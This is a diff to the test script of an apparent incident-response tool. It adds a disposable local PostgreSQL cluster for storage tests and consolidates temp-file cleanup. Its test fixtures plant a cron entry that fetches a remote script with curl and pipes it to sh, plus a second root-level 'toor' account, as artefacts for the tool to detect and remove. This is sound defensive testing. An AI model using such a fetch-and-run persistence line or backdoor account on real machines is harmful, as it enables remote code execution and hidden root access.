@@ -13,9 +13,10 @@ cd "$(dirname "$0")/.."
 # tests check bundles with the standard tools another examiner would use; nftables and
 # iproute2 for the network-containment test (in namespaces it creates), util-linux for
 # unshare/setpriv/script (live account lock in a mount namespace, prompts on a terminal); time
-# (GNU time) for bench/hostile.sh's peak-memory figures.
+# (GNU time) for bench/hostile.sh's peak-memory figures; postgresql for the case platform's
+# storage tests (on a cluster of their own, below).
 # Later issues add yara, postgresql, chromium here.
-APT_PACKAGES=(coreutils file systemd-journal-remote rpm zstd tar openssl age nftables iproute2 util-linux time)
+APT_PACKAGES=(coreutils file systemd-journal-remote rpm zstd tar openssl age nftables iproute2 util-linux time postgresql)
 
 install_packages() {
   local missing=()
@@ -41,6 +42,50 @@ install_packages() {
 }
 
 install_packages
+
+# What this script starts or makes, stopped and removed on exit whatever happens.
+CLEANUP_PATHS=()
+PG_STOP=()
+cleanup() {
+  if [ ${#PG_STOP[@]} -gt 0 ]; then "${PG_STOP[@]}" >/dev/null 2>&1 || true; fi
+  if [ ${#CLEANUP_PATHS[@]} -gt 0 ]; then rm -rf "${CLEANUP_PATHS[@]}"; fi
+}
+trap cleanup EXIT
+
+# A PostgreSQL cluster of the tests' own: initdb in a temp dir, loopback only, a free port;
+# its URL goes to the storage tests in FIREWARDEN_TEST_PG_URL. PostgreSQL refuses to run as
+# root, so as root it runs as the postgres user.
+start_postgres() {
+  local pgbin
+  pgbin=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -1)
+  if [ -z "$pgbin" ]; then
+    echo "test.sh: PostgreSQL is not installed: the storage tests' PostgreSQL half will say so" >&2
+    return 0
+  fi
+  local dir as=()
+  dir=$(mktemp -d)
+  CLEANUP_PATHS+=("$dir")
+  if [ "$(id -u)" -eq 0 ]; then
+    chown postgres "$dir"
+    as=(runuser -u postgres --)
+  fi
+  "${as[@]}" "$pgbin/initdb" -D "$dir/data" -A trust -U postgres >/dev/null
+  local port
+  for _ in 1 2 3 4 5; do
+    port=$((20000 + RANDOM % 30000))
+    if "${as[@]}" "$pgbin/pg_ctl" -D "$dir/data" -l "$dir/log" -w \
+      -o "-p $port -c listen_addresses=127.0.0.1 -k $dir" start >/dev/null 2>&1; then
+      PG_STOP=("${as[@]}" "$pgbin/pg_ctl" -D "$dir/data" -m immediate -w stop)
+      export FIREWARDEN_TEST_PG_URL="postgres://postgres@127.0.0.1:$port/postgres"
+      echo "test.sh: PostgreSQL on 127.0.0.1:$port"
+      return 0
+    fi
+  done
+  echo "test.sh: PostgreSQL did not start: $(tail -3 "$dir/log" 2>/dev/null)" >&2
+  return 1
+}
+start_postgres
+
 if ! command -v cargo >/dev/null && [ -x "$HOME/.cargo/bin/cargo" ]; then
   export PATH="$HOME/.cargo/bin:$PATH"
 fi
@@ -79,7 +124,7 @@ if [ -z "${SKIP_STATIC:-}" ]; then
   "$bin" checks >/dev/null
   fixture=$(mktemp -d)
   report=$(mktemp)
-  trap 'rm -rf "$fixture" "$report"' EXIT
+  CLEANUP_PATHS+=("$fixture" "$report")
   mkdir -p "$fixture/etc"
   printf 'root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n' > "$fixture/etc/passwd"
   set +e
@@ -91,7 +136,7 @@ if [ -z "${SKIP_STATIC:-}" ]; then
     exit 1
   fi
   bundle_dir=$(mktemp -d)
-  trap 'rm -rf "$fixture" "$report" "$bundle_dir"' EXIT
+  CLEANUP_PATHS+=("$bundle_dir")
   "$bin" keygen -o "$bundle_dir/k" >/dev/null 2>&1
   "$bin" collect --root "$fixture" --key "$bundle_dir/k.key" --operator ci -o "$bundle_dir/b.fwb" >/dev/null 2>&1
   if ! "$bin" verify "$bundle_dir/b.fwb" --key "$bundle_dir/k.pub" | grep -q '^OK '; then
@@ -119,7 +164,7 @@ JSONL
   fi
   # Response actions on a throwaway root: eradicate what triage found, then undo it all.
   respond_root=$(mktemp -d)
-  trap 'rm -rf "$fixture" "$report" "$bundle_dir" "$respond_root"' EXIT
+  CLEANUP_PATHS+=("$respond_root")
   mkdir -p "$respond_root/etc/cron.d"
   printf 'root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n' > "$respond_root/etc/passwd"
   printf '*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n' > "$respond_root/etc/cron.d/sync"
